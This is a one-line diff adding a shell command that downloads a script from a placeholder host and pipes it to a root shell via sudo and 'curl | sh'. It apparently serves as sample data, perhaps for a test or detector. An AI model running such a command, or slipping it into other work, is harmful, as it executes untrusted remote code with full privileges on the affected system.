@@ -1,0 +1,1 @@
+sudo -u root bash -c 'curl $0 | sh' http://x
